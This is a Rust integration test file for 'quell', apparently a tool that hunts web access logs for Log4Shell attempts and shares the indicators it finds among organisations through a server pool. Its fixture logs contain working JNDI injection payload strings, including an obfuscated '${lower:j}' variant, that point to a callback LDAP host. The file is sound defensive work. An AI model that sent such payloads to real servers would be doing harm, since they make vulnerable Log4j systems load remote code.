//! `quell hunt --upload` to a real `quell serve`, as users run them: three organisations hunt
//! their logs and upload; the pool appears once the third has; raw lines travel only with
//! `--upload-lines`; and headless Chromium shows the `/indicators` page to a coordinator and to
//! an organisation user (screenshots in `target/tmp/browser/`).
#![cfg(feature = "server")]
#![allow(clippy::unwrap_used, clippy::expect_used)]

mod common;
#[allow(unused_imports)]
use common::*;

use std::path::Path;
use std::process::Child;
use std::time::Duration;

const ORGS: [&str; 3] = ["alpha", "bravo", "charlie"];

/// Per organisation an admin (`it@NAME.example`) with an upload token and a full token; a
/// coordinator `cert@ncsc.example`. Returns (upload, full) tokens.
fn setup(data: &Path) -> Vec<(String, String)> {
    create_coordinator(data);
    ORGS.iter()
        .map(|name| {
            let email = create_org_admin(data, name);
            (create_token(data, &email, "hunt", "upload"), create_token(data, &email, "read", "full"))
        })
        .collect()
}

/// An access log with two attempts at the shared callback host and one at an organisation's own.
fn logs(dir: &Path, own_host: &str) {
    std::fs::create_dir_all(dir).unwrap();
    let text = format!(
        "203.0.113.9 - - [10/Dec/2021:10:00:00 +0000] \"GET /?q=${{jndi:ldap://198.51.100.7:1389/a}} HTTP/1.1\" 200 5 \"-\" \"curl/7.68\"\n\
         198.51.100.20 - - [11/Dec/2021:12:30:00 +0000] \"GET / HTTP/1.1\" 200 5 \"-\" \"${{${{lower:j}}ndi:ldap://198.51.100.7:1389/a}}\"\n\
         192.0.2.1 - - [11/Dec/2021:13:00:00 +0000] \"GET /index.html HTTP/1.1\" 200 5 \"-\" \"Mozilla/5.0\"\n\
         203.0.113.77 - - [12/Dec/2021:09:00:00 +0000] \"GET /?x=${{jndi:dns://{own_host}/z}} HTTP/1.1\" 404 5 \"-\" \"-\"\n"
    );
    std::fs::write(dir.join("access.log"), text).unwrap();
}

fn hunt_upload(base: &str, token: &str, logs: &Path, host: &str, extra: &[&str]) -> String {
    let out = quell()
        .args(["hunt", "--quiet", "--upload", base, "--token", token, "--host-name", host])
        .args(extra)
        .arg(logs)
        .output()
        .unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr).into_owned();
    assert_eq!(out.status.code(), Some(1), "attempts found: {stderr}");
    let answer = stderr.split("quell hunt: uploaded: ").nth(1).unwrap_or_else(|| panic!("no upload: {stderr}"));
    answer.lines().next().unwrap().to_string()
}

/// Three organisations hunt and upload; returns the server, its base URL, the tokens.
fn three_uploads(dir: &Path) -> (Child, String, Vec<(String, String)>) {
    let data = dir.join("data");
    let tokens = setup(&data);
    let (server, base) = serve(&data, &[]);
    for (i, (name, (upload, full))) in ORGS.iter().zip(&tokens).enumerate() {
        let log_dir = dir.join(format!("logs-{name}"));
        logs(&log_dir, &format!("own-{name}.example"));
        let extra: &[&str] = if i == 0 { &["--tlp", "green", "--upload-lines"] } else { &[] };
        let answer: serde_json::Value =
            serde_json::from_str(&hunt_upload(&base, upload, &log_dir, &format!("web-{name}"), extra)).unwrap();
        assert_eq!(answer["duplicate"], false);
        assert_eq!(answer["tlp"], if i == 0 { "GREEN" } else { "AMBER" });
        assert_eq!(answer["lines"], if i == 0 { 3 } else { 0 }, "raw lines only with --upload-lines");
        let (_, pool) = get(&base, full, "/api/v1/indicators/pool");
        assert_eq!(pool.as_array().unwrap().is_empty(), i < 2, "shown from the third organisation on: {pool}");
    }
    (server, base, tokens)
}

#[test]
fn hunt_uploads_indicators_and_the_pool_forms_at_three_organisations() {
    let dir = tempfile::tempdir().unwrap();
    let (mut server, base, tokens) = three_uploads(dir.path());

    let (status, mine) = get(&base, &tokens[0].1, "/api/v1/indicators");
    assert_eq!(status, 200);
    let list = mine.as_array().unwrap();
    let host = list.iter().find(|i| i["kind"] == "callback_host" && i["value"] == "198.51.100.7").expect("host");
    assert_eq!(host["count"], 2);
    assert_eq!(
        (host["first_seen"].as_str(), host["last_seen"].as_str()),
        (Some("2021-12-10T10:00:00Z"), Some("2021-12-11T12:30:00Z"))
    );
    assert_eq!(host["time_source"], "log");
    assert_eq!(host["hosts"], serde_json::json!(["web-alpha"]));
    assert_eq!(host["tlp"], "GREEN");
    assert!(host["techniques"].as_array().unwrap().iter().any(|t| t == "lower"), "{host}");
    for (kind, value) in [
        ("payload_url", "ldap://198.51.100.7:1389/a"),
        ("source_address", "203.0.113.9"),
        ("callback_host", "own-alpha.example"),
    ] {
        assert!(list.iter().any(|i| i["kind"] == kind && i["value"] == value), "{kind} {value}: {mine}");
    }
    assert!(!list.iter().any(|i| i["value"] == "own-bravo.example"), "bravo's own stays with bravo");

    // Raw lines: alpha sent them (--upload-lines), bravo did not; each sees only its own.
    let (status, lines) = get(&base, &tokens[0].1, "/api/v1/indicators/lines");
    assert_eq!(status, 200);
    let lines = lines.as_array().unwrap();
    assert_eq!(lines.len(), 3, "{lines:?}");
    assert!(lines.iter().all(|l| l["host"] == "web-alpha" && l["file"].as_str().unwrap().ends_with("access.log")));
    assert!(lines.iter().any(|l| l["raw"].as_str().unwrap().contains("198.51.100.7") && l["line"] == 1));
    assert!(get(&base, &tokens[1].1, "/api/v1/indicators/lines").1.as_array().unwrap().is_empty());
    assert_eq!(get(&base, &tokens[0].0, "/api/v1/indicators/lines").0, 403, "upload tokens read nothing");

    let (_, pool) = get(&base, &tokens[1].1, "/api/v1/indicators/pool");
    let shared = pool.as_array().unwrap().iter().find(|i| i["value"] == "198.51.100.7").expect("pooled");
    assert_eq!((shared["organisations"].as_i64(), shared["count"].as_i64()), (Some(3), Some(6)));
    assert_eq!(shared["tlp"], "AMBER");
    assert!(!pool.to_string().contains("own-") && !pool.to_string().contains("web-"), "{pool}");

    // The same hunt uploaded again (later: another generated_at) is stored once.
    std::thread::sleep(Duration::from_millis(1100));
    let again = hunt_upload(&base, &tokens[2].0, &dir.path().join("logs-charlie"), "web-charlie", &[]);
    assert!(again.contains("\"duplicate\":true"), "{again}");
    let (_, pool) = get(&base, &tokens[1].1, "/api/v1/indicators/pool");
    let shared = pool.as_array().unwrap().iter().find(|i| i["value"] == "198.51.100.7").unwrap();
    assert_eq!((shared["organisations"].as_i64(), shared["count"].as_i64()), (Some(3), Some(6)));

    // A failed upload (wrong token) exits 2 after printing the attempts.
    let out = quell()
        .args(["hunt", "--upload", &base, "--token", "qt_wrong"])
        .arg(dir.path().join("logs-alpha"))
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("HTTP 401"));
    assert!(String::from_utf8_lossy(&out.stdout).contains("198.51.100.7"), "attempts still printed");
    // A bad marking is refused before anything runs.
    let out = quell().args(["hunt", "--upload", &base, "--token", "x", "--tlp", "purple", "-"]).output().unwrap();
    assert_eq!(out.status.code(), Some(2));
    server.kill().unwrap();
    server.wait().unwrap();
}

/// Skipped when Chromium is missing, unless `QUELL_REQUIRE_BROWSER` is set (scripts/test sets it).
#[test]
fn browser_shows_the_indicators_page_to_a_coordinator_and_an_organisation_user() {
    let Some(chromium) = chromium() else { return };
    let dir = tempfile::tempdir().unwrap();
    let (mut server, base, _) = three_uploads(dir.path());

    let profile = dir.path().join("chromium");
    let (mut browser, mut cdp) = browser(chromium, &profile);
    cdp.viewport(1280, 900, false);
    let artifacts = artifacts();

    // An organisation user: own sightings (with its own callback host) and the pool.
    let text = indicators_as(&mut cdp, &base, "it@alpha.example");
    assert!(text.contains("Your organisation's sightings"), "{text}");
    assert!(text.contains("own-alpha.example") && !text.contains("own-bravo.example"), "{text}");
    assert!(text.contains("Pooled indicators") && text.contains("198.51.100.7"), "{text}");
    assert_eq!(cdp.eval("document.querySelectorAll('#indicator-chart rect.own').length > 0"), serde_json::json!(true));
    assert_eq!(cdp.eval("document.querySelectorAll('#indicator-chart rect.pool').length > 0"), serde_json::json!(true));
    cdp.screenshot(&artifacts.join("indicators-org.png"));
    // A filter narrows the pool.
    cdp.eval("document.querySelector('select[name=kind]').value = 'source_address'; document.querySelector('form[action=\"/indicators\"] button').click(); true");
    cdp.wait_until(
        "filtered page",
        "location.search.includes('kind=source_address') && document.readyState === 'complete' && !!document.querySelector('#pool')",
    );
    let pool_text = cdp.eval("document.querySelector('#pool').innerText").as_str().unwrap_or_default().to_string();
    assert!(pool_text.contains("203.0.113.9") && !pool_text.contains("ldap://"), "{pool_text}");

    // The coordinator: the pool only, no organisation's own sightings.
    let text = indicators_as(&mut cdp, &base, "cert@ncsc.example");
    assert!(text.contains("Pooled indicators") && text.contains("198.51.100.7"), "{text}");
    assert!(!text.contains("Your organisation's sightings") && !text.contains("own-alpha.example"), "{text}");
    assert!(!text.contains("web-alpha"), "{text}");
    cdp.screenshot(&artifacts.join("indicators-coordinator.png"));

    browser.kill().unwrap();
    browser.wait().unwrap();
    server.kill().unwrap();
    server.wait().unwrap();
}

/// Logs in through the form and opens `/indicators` from the navigation.
fn indicators_as(cdp: &mut Cdp, base: &str, email: &str) -> String {
    cdp.login(base, email);
    cdp.eval("document.querySelector('a[href=\"/indicators\"]').click(); true");
    cdp.wait_until(
        "indicators page",
        "location.pathname === '/indicators' && document.readyState === 'complete' && !!document.querySelector('#pool')",
    );
    cdp.text()
}
